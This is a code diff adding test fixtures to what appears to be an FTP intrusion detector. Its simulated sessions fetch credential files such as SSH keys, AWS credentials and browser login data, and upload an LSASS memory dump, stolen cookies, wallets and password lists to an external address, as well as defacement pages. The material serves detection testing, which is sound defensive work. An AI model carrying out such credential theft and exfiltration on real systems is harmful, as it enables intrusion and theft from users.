@@ -15,6 +15,28 @@ import (
 )
 
 var intruders = []lookalike{
+	{"passwords and keys of all who use a computer", "no-sensitive-names", "", session1(linesOf("> RETR %s\n< 150 here\n< 226 done\n", "Windows/Panther/unattend.xml", "inetpub/wwwroot/web.config", "Users/bob/Chrome/Login Data"))},
+	{"passwords and keys of one user", "no-sensitive-names", IsUnusual, session1(linesOf("> RETR %s\n< 150 here\n< 226 done\n", ".ssh/id_rsa", ".netrc", ".bash_history"))},
+	{"passwords and keys that a shell and a site have", "no-sensitive-names", "", session1(linesOf("> RETR %s\n< 150 here\n< 226 done\n", ".ssh/id_rsa", ".bash_history", "wp-config.php", ".aws/credentials"))},
+	{"a tool and a text about passwords", "no-sensitive-names", IsNormal, moves([2]string{"STOR tools/putty.exe", "MZ\x90"}, [2]string{"RETR backup/passwords-policy.pdf", "%PDF-1.5"})},
+	{"the memory of the logins, which leaves the network", "no-sensitive-names", "", storesBetween("10.40.3.50", "203.0.113.9", "STOR lsass.dmp", "MDMP\x93\xa7")},
+	{"what a program that steals passwords found at a computer", "no-sensitive-names", "", func(f *forge.Capture) {
+		dial(f, "10.40.3.50", "203.0.113.9:21").Say(hello).Say(linesOf("> STOR PC7_ada_%s\n< 150 go on\n< 226 done\n", "Screenshot.jpeg", "Cookies.zip", "Wallets.zip")).Say(bye).Peer.Close()
+	}},
+	{"pictures and an archive of one user", "no-sensitive-names", IsNormal, func(f *forge.Capture) {
+		dial(f, "10.40.3.50", "203.0.113.9:21").Say(hello).Say(linesOf("> STOR %s\n< 150 go on\n< 226 done\n", "Screenshot.jpeg", "Downloads.zip", "plan.zip")).Say(bye).Peer.Close()
+	}},
+	{"a list of passwords that leaves the network", "no-loot", "", storesBetween("10.40.3.60", "203.0.113.9", "STOR a.txt", passwordsOfBob)},
+	{"a list of passwords", "no-loot", IsUnusual, storesBetween("10.40.3.60", "10.40.3.9", "STOR a.txt", passwordsOfBob)},
+	{"the keys of a cloud, which leave the network", "no-loot", "", storesBetween("10.40.3.60", "203.0.113.9", "STOR c.txt", keysOfCloud)},
+	{"the settings of a site with the keys of a cloud", "no-loot", IsUnusual, storesBetween("10.40.3.60", "203.0.113.9", "STOR site/.env", keysOfCloud)},
+	{"the keys of a cloud", "no-loot", IsUnusual, moves([2]string{"RETR c.txt", keysOfCloud})},
+	{"numbers of cards with their codes", "no-loot", "", moves([2]string{"STOR d1.tmp", strings.ReplaceAll(cardNumbers(10), "\r\n", ";123;12/27\r\n")})},
+	{"the start page of a site, with a boast", "no-loot", "", moves([2]string{"STOR index.html", "<title>0wned</title><h1>HACKED BY us</h1>"})},
+	{"a page with a boast", "no-loot", IsUnusual, moves([2]string{"STOR 2026/story.html", "<title>0wned</title><h1>HACKED BY us</h1>"})},
+	{"the keys that somebody pressed, in several files", "no-loot", "", moves([2]string{"STOR a.html", "<b>[Bank]</b> ada{TAB}x{ENTER} dear{BACK}"}, [2]string{"STOR b.html", "<b>[Mail]</b> ada{TAB}x{ENTER} bob{DEL}"})},
+	{"a folder of an anonymous user that hides", "names-can-be-seen", "", anonymous("> MKD  .for.you\n< 257 ok")},
+	{"a folder of a user with a blank in front", "names-can-be-seen", IsUnusual, session1("> MKD  .for.me\n< 257 ok")},
 	{"an account that is emptied, by somebody who boasts", "no-signs-agree", "", emptied("MKD hacked_by_mallory")},
 	{"an account that is emptied", "files-are-kept", IsUnusual, emptied("NOOP")},
 	{"an account that gets new files", "files-are-kept", IsNormal, emptied("STOR site.zip\n< 150 go on")},
@@ -152,6 +174,11 @@ var intruders = []lookalike{
 
 // early are commands before USER.
 const early = "< 220 ready\n> LIST\n< 530 log in\n> RETR /pub/a\n< 530 log in\n> STOR x\n< 530 log in\n> DELE x\n< 530 log in"
+
+const (
+	passwordsOfBob = "Host: smtp.corp.example\r\nUser: bob@corp.example\r\nPass: Tr0ub4dor\r\n"
+	keysOfCloud    = "[default]\naws_access_key_id = AKIAIOSFODNN7EXAMPLE\naws_secret_access_key = wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY\n"
+)
 
 // emptied is a session that removes all files and folders, and then does something else.
 func emptied(last string) func(*forge.Capture) {
